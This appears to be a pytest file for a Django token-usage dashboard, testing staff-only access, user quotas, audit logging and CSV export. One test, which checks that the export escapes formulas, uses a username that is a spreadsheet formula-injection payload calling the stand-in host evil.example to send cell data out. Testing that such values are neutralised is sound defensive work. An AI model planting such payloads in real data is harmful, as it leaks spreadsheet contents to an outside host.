"""Staff see where the tokens went; users see their own; nobody else gets in."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.db import transaction
from django.test import Client

from conversations import quota
from conversations.models import AuditEntry, ModelConfig, Policy, UsageRecord, User, UserLimits
from tests.support import client_for, downloaded

pytestmark = pytest.mark.django_db


def spend(user: User, model: ModelConfig, hit: int, miss: int, completion: int) -> None:
    with transaction.atomic():
        # Admitted for at least 1 output token (no call is admitted for less).
        record = quota.admit(
            user, model, purpose="chat", prompt_tokens=hit + miss, max_tokens=max(completion, 1)
        )
    usage = {
        "prompt_tokens": hit + miss,
        "completion_tokens": completion,
        "total_tokens": hit + miss + completion,
        "prompt_cache_hit_tokens": hit,
        "prompt_cache_miss_tokens": miss,
    }
    quota.settle(record.pk, outcome="complete", usage=usage)


def test_non_staff_cannot_reach_the_dashboard_or_the_export(alice: User) -> None:
    for client in (Client(), client_for(alice)):
        for url in ["/admin/usage/", "/admin/usage/export.csv"]:
            response = client.get(url)
            assert response.status_code == 302 and "/admin/login/" in response["Location"], url


def test_staff_see_charts_tables_and_export_the_ledger(
    staff: User, alice: User, bob: User, chat_model: ModelConfig
) -> None:
    spend(alice, chat_model, hit=300, miss=100, completion=50)
    spend(bob, chat_model, hit=0, miss=200, completion=20)
    client = client_for(staff)
    page = client.get("/admin/usage/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<svg" in html and "Tokens per day by model" in html and "cache hit input" in html
    assert "alice" in html and "bob" in html and "deepseek-chat" in html
    assert "cache-hit ratio 50%" in html  # 300 hit of 600 prompt tokens
    filtered = client.get(f"/admin/usage/?user={alice.pk}").content.decode()
    assert "<td>alice</td>" in filtered and "<td>bob</td>" not in filtered
    export = client.get(f"/admin/usage/export.csv?user={alice.pk}")
    rows = list(csv.DictReader(io.StringIO(downloaded(export))))
    assert [(r["user"], r["total_tokens"], r["cache_hit_tokens"]) for r in rows] == [
        ("alice", "450", "300")
    ]


def test_a_user_sees_their_usage_limits_and_a_warning_near_the_limit(
    alice: User, chat_model: ModelConfig
) -> None:
    Policy.objects.all().delete()
    UserLimits.objects.create(user=alice, tokens_per_day=1000)
    spend(alice, chat_model, hit=0, miss=700, completion=150)
    client = client_for(alice)
    page = client.get("/usage/").content.decode()
    assert "850 tokens of 1,000" in page and "150 left" in page and "85%" in page
    summary = client.get("/usage/summary.json").json()
    assert (
        summary["today"]["left"] == 150
        and summary["remaining"] == 150
        and "85%" in summary["warning"]
    )
    assert Client().get("/usage/").status_code == 302


def test_changes_to_policies_limits_and_models_are_audited(
    staff: User, alice: User, chat_model: ModelConfig
) -> None:
    client = client_for(staff)
    group = Group.objects.create(name="engineers")
    response = client.post(
        "/admin/conversations/policy/add/",
        {
            "name": "engineering",
            "groups": [group.pk],
            "all_models": "on",
            "tokens_per_day": "5000",
            "api_access": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    policy = Policy.objects.get(name="engineering")
    created = AuditEntry.objects.get(target_type="policy", action="create")
    assert (
        created.actor == staff
        and created.after["tokens_per_day"] == 5000
        and created.after["groups"] == [group.pk]
    )

    client.post(
        f"/admin/conversations/policy/{policy.pk}/change/",
        {
            "name": "engineering",
            "groups": [group.pk],
            "all_models": "on",
            "tokens_per_day": "9000",
            "api_access": "on",
        },
    )
    change = AuditEntry.objects.get(target_type="policy", action="change")
    assert (change.before["tokens_per_day"], change.after["tokens_per_day"]) == (5000, 9000)

    UserLimits.objects.create(user=alice)
    form = {
        "username": "alice",
        "first_name": "Alice",
        "last_name": "",
        "email": "",
        "is_active": "on",
        "date_joined_0": "2026-01-01",
        "date_joined_1": "00:00:00",
        "limits-TOTAL_FORMS": "1",
        "limits-INITIAL_FORMS": "1",
        "limits-MIN_NUM_FORMS": "0",
        "limits-MAX_NUM_FORMS": "1",
        "limits-0-id": str(alice.limits.pk),
        "limits-0-user": str(alice.pk),
        "limits-0-suspended": "on",
        "limits-0-tokens_per_day": "100",
    }
    response = client.post(f"/admin/conversations/user/{alice.pk}/change/", form)
    assert response.status_code == 302, response.content.decode()[:3000]
    suspension = AuditEntry.objects.get(target_type="userlimits")
    assert suspension.action == "suspend" and suspension.after["tokens_per_day"] == 100

    client.post(
        f"/admin/conversations/modelconfig/{chat_model.pk}/change/",
        {
            "name": chat_model.name,
            "display_name": chat_model.display_name,
            "enabled": "on",
            "sort_order": "1",
            "upstream_model": "deepseek-flash",
            "reasoning_passback": "send",
            "supports_tools": "on",
            "supports_json": "on",
            "supports_logprobs": "on",
            "context_window": "1048576",
            "max_output_tokens": "8192",
            "default_max_tokens": "4096",
            "price_input_cache_hit": "0.0028",
            "price_input_cache_miss": "0.14",
            "price_output": "0.28",
            "prices-TOTAL_FORMS": "0",
            "prices-INITIAL_FORMS": "0",
            "prices-MIN_NUM_FORMS": "0",
            "prices-MAX_NUM_FORMS": "1000",
        },
    )
    renamed = AuditEntry.objects.get(target_type="modelconfig")
    assert (renamed.before["upstream_model"], renamed.after["upstream_model"]) == (
        "deepseek-v4-flash",
        "deepseek-flash",
    )

    export = client.post(
        "/admin/conversations/auditentry/",
        {"action": "export_csv", "_selected_action": [e.pk for e in AuditEntry.objects.all()]},
    )
    assert export["Content-Type"] == "text/csv" and downloaded(export).count("\n") == 5


def test_past_costs_keep_the_price_of_their_day(alice: User, chat_model: ModelConfig) -> None:
    Policy.objects.all().delete()
    spend(alice, chat_model, hit=0, miss=1_000_000, completion=0)
    first = UsageRecord.objects.get()
    assert float(first.cost) == pytest.approx(0.14)
    chat_model.price_input_cache_miss = 1
    chat_model.save()
    first.refresh_from_db()
    assert float(first.cost) == pytest.approx(0.14)


def test_staff_without_the_ledger_permission_get_403(alice: User) -> None:
    clerk = User.objects.create_user("clerk", password="x", is_staff=True)
    client = client_for(clerk)
    for url in ["/admin/usage/", "/admin/usage/export.csv"]:
        assert client.get(url).status_code == 403, url


def test_the_admin_index_links_the_dashboard_only_for_those_who_may_open_it(
    staff: User,
) -> None:
    clerk = User.objects.create_user("clerk", password="x", is_staff=True)
    assert 'href="/admin/usage/"' not in client_for(clerk).get("/admin/").content.decode()
    assert 'href="/admin/usage/"' in client_for(staff).get("/admin/").content.decode()


def test_exported_text_cannot_run_as_a_spreadsheet_formula(
    staff: User, chat_model: ModelConfig
) -> None:
    sneaky = User.objects.create_user('=HYPERLINK("https://evil.example/?"&A2,"x")', password="x")
    spend(sneaky, chat_model, hit=0, miss=10, completion=5)
    export = downloaded(client_for(staff).get("/admin/usage/export.csv"))
    rows = list(csv.DictReader(io.StringIO(export)))
    assert [r["user"] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A2,"x")']
    assert rows[0]["total_tokens"] == "15"  # numbers stay numbers
